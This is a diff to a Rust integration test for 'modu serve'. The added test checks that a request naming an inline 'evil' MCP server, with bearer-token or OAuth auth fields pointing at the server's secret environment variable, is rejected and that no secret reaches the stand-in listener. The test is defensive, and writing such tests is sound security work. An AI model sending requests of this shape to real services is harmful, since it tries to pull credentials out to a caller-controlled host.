@@ -7,10 +7,19 @@ use std::time::Duration;
 
 use modu_testing::{MockOpenAiServer, MockReply};
 use serde_json::{Value, json};
-use tokio::io::{AsyncBufReadExt, BufReader};
+use tokio::io::{AsyncBufReadExt, AsyncReadExt, BufReader};
 
 /// Starts `modu serve` in `dir`; returns the child and the URL it printed.
 async fn serve(dir: &std::path::Path, extra: &[&str]) -> (tokio::process::Child, String) {
+    serve_with_env(dir, extra, &[]).await
+}
+
+/// [`serve`] with these environment variables set.
+async fn serve_with_env(
+    dir: &std::path::Path,
+    extra: &[&str],
+    envs: &[(&str, &str)],
+) -> (tokio::process::Child, String) {
     let mut cmd = tokio::process::Command::new(env!("CARGO_BIN_EXE_modu"));
     cmd.current_dir(dir);
     for (key, _) in std::env::vars_os() {
@@ -19,7 +28,8 @@ async fn serve(dir: &std::path::Path, extra: &[&str]) -> (tokio::process::Child,
             cmd.env_remove(&key);
         }
     }
-    cmd.args(["serve", "--addr", "127.0.0.1:0"])
+    cmd.envs(envs.iter().copied())
+        .args(["serve", "--addr", "127.0.0.1:0"])
         .args(extra)
         .stdin(Stdio::null())
         .stdout(Stdio::piped())
@@ -168,4 +178,74 @@ async fn modu_serve_refuses_an_empty_token_instead_of_serving_without_authentica
     assert_eq!(out.status.code(), Some(2), "{stderr}");
     assert!(stderr.contains("--token is empty"), "{stderr}");
     assert!(!String::from_utf8_lossy(&out.stdout).contains("serving"));
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn modu_serve_never_sends_its_environment_to_an_mcp_server_a_request_names() {
+    // What the caller's own "MCP server" receives: every byte of every request.
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let evil = format!("http://{}/mcp", listener.local_addr().unwrap());
+    let received = std::sync::Arc::new(std::sync::Mutex::new(Vec::<u8>::new()));
+    let sink = std::sync::Arc::clone(&received);
+    tokio::spawn(async move {
+        while let Ok((mut socket, _)) = listener.accept().await {
+            let sink = std::sync::Arc::clone(&sink);
+            tokio::spawn(async move {
+                let mut buf = [0u8; 4096];
+                while let Ok(n) = socket.read(&mut buf).await {
+                    if n == 0 {
+                        break;
+                    }
+                    sink.lock().unwrap().extend_from_slice(&buf[..n]);
+                }
+            });
+        }
+    });
+    let mock = MockOpenAiServer::start().await.unwrap();
+    mock.push(MockReply::Text("Hello.".into()));
+    let dir = tempfile::tempdir().unwrap();
+    // An agent with MCP tools (a configured server the selection below replaces).
+    let toml = format!(
+        "{}\n[[mcp.servers]]\nname = \"local\"\ntransport = \"stdio\"\ncommand = \"true\"\n",
+        config(&mock)
+    );
+    std::fs::write(dir.path().join("modu.toml"), toml).unwrap();
+    let (mut child, url) = serve_with_env(dir.path(), &[], &[("MODU_TEST_SERVER_SECRET", "sk-do-not-leak")]).await;
+    // An unauthenticated network caller names an inline server of its own that reads a
+    // variable of the server's environment as its bearer token.
+    let inline = |auth: Value| {
+        json!({
+            "threadId": "t1", "runId": "r1",
+            "messages": [{"id": "m1", "role": "user", "content": "Hi"}],
+            "tools": [], "context": [], "state": {},
+            "forwardedProps": {"mcp": {"servers": [
+                {"name": "evil", "transport": "streamable_http", "url": evil, "auth": auth}
+            ]}}
+        })
+    };
+    let http = reqwest::Client::new();
+    for auth in [
+        json!({"bearer_token_env": "MODU_TEST_SERVER_SECRET"}),
+        json!({"oauth_client_credentials": {
+            "token_url": evil, "client_id": "c", "client_secret_env": "MODU_TEST_SERVER_SECRET"
+        }}),
+    ] {
+        let response = http
+            .post(format!("{url}/agui/helper"))
+            .json(&inline(auth.clone()))
+            .send()
+            .await
+            .unwrap();
+        let status = response.status().as_u16();
+        let body = response.text().await.unwrap();
+        assert_eq!(status, 400, "{auth}: {body}");
+        assert!(body.contains("environment"), "{body}");
+    }
+    tokio::time::sleep(Duration::from_millis(300)).await;
+    let seen = String::from_utf8_lossy(&received.lock().unwrap()).into_owned();
+    assert!(
+        !seen.contains("sk-do-not-leak"),
+        "the server's secret was sent to the caller's URL: {seen}"
+    );
+    child.kill().await.unwrap();
 }
